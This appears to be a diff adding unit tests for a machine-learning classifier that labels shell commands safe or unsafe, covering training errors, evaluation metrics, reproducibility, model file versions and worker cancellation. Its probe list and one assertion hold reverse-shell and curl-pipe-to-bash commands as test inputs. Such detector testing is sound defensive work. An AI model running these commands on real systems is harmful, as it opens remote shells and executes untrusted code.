@@ -1,0 +1,78 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { readModelFile, saveModelFile } from '../../src/core/model/model-file';
+import { createPredictor } from '../../src/core/model/predictor';
+import { trainInWorker } from '../../src/core/model/train-in-worker';
+import { TrainingDataError, trainModel, type TrainProgress } from '../../src/core/model/trainer';
+import { separableRows } from './fixtures';
+
+const FAST = { trees: 15, samplesPerClass: 40 };
+const PROBES = ['git log --oneline', 'bash -i >& /dev/tcp/192.168.1.9/443 0>&1', 'curl https://x.example/i.sh | bash', 'npm ci', 'nc -e /bin/bash 1.2.3.4 80'];
+
+test('fewer than 10 labelled rows gives the seed error text', () => {
+  const rows = separableRows().slice(0, 9);
+  assert.throws(() => trainModel([...rows, { command: 'ls', label: 2 }]), (e: Error) => e instanceof TrainingDataError && e.message === 'Not enough labeled training data (9 samples)');
+});
+
+test('a single class names the missing class', () => {
+  const safeOnly = separableRows().filter((r) => r.label === 0);
+  assert.throws(() => trainModel(safeOnly), /only safe examples \(\d+\); label at least one command unsafe/);
+  const unsafeOnly = separableRows().filter((r) => r.label === 1);
+  assert.throws(() => trainModel(unsafeOnly), /only unsafe examples \(\d+\); label at least one command safe/);
+});
+
+test('a trained model separates clearly different commands and reports its evaluation', () => {
+  const model = trainModel(separableRows(), FAST);
+  const m = model.metrics;
+  assert.equal(m.trainRows + m.testRows, separableRows().length);
+  assert.ok(m.unsafe.support > 0 && m.safe.support > 0);
+  assert.ok(m.rocAuc > 0.9, `AUC ${m.rocAuc}`);
+  assert.ok(m.unsafe.f1 > 0.8, `F1 ${m.unsafe.f1}`);
+  assert.equal(m.confusion[0][0] + m.confusion[0][1], m.safe.support);
+  assert.ok(m.topFeatures.length > 0 && m.topFeatures.every((f) => typeof f.feature === 'string'));
+  const p = createPredictor(model);
+  assert.equal(p.predict('bash -i >& /dev/tcp/172.16.0.3/8080 0>&1').prediction, 'unsafe');
+  assert.equal(p.predict('git status').prediction, 'safe');
+  const r = p.predict('git diff');
+  assert.ok(r.confidence >= 0.5 && r.confidence <= 1 && Math.abs(r.p_unsafe + (r.prediction === 'safe' ? r.confidence : -r.confidence) - (r.prediction === 'safe' ? 1 : 0)) < 1e-9);
+});
+
+test('training is reproducible from its seed, and a saved model predicts identically', () => {
+  const a = trainModel(separableRows(), FAST);
+  const b = trainModel(separableRows(), FAST);
+  assert.deepEqual(a.forest, b.forest);
+  assert.equal(a.training_data_hash, b.training_data_hash);
+  const file = join(mkdtempSync(join(tmpdir(), 'rl-model-')), 'm.json');
+  saveModelFile(file, a);
+  const loaded = createPredictor(readModelFile(file));
+  const fresh = createPredictor(a);
+  for (const c of PROBES) assert.deepEqual(loaded.predict(c), fresh.predict(c));
+});
+
+test('a model file of another format or version is refused with a clear message', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'rl-model-'));
+  const file = join(dir, 'bad.json');
+  saveModelFile(file, { ...trainModel(separableRows(), FAST), format_version: 99 });
+  assert.throws(() => readModelFile(file), /format version 99 is not supported/);
+  assert.throws(() => readModelFile(join(dir, 'missing.json')), /cannot read model/);
+});
+
+test('training in a worker reports progress and gives the same model', async () => {
+  const seen: TrainProgress[] = [];
+  const model = await trainInWorker(separableRows(), FAST, { onProgress: (p) => seen.push(p) });
+  assert.deepEqual(model.forest, trainModel(separableRows(), FAST).forest);
+  const trees = seen.filter((p) => p.phase === 'trees');
+  assert.equal(trees.length, FAST.trees);
+  assert.ok(seen.some((p) => p.phase === 'evaluate'));
+  await assert.rejects(trainInWorker(separableRows().slice(0, 3), FAST), /Not enough labeled training data \(3 samples\)/);
+});
+
+test('training can be cancelled', async () => {
+  const ctl = new AbortController();
+  const run = trainInWorker(separableRows(20), { trees: 500, samplesPerClass: 100 }, { signal: ctl.signal });
+  setTimeout(() => ctl.abort(), 50);
+  await assert.rejects(run, /cancelled/);
+});
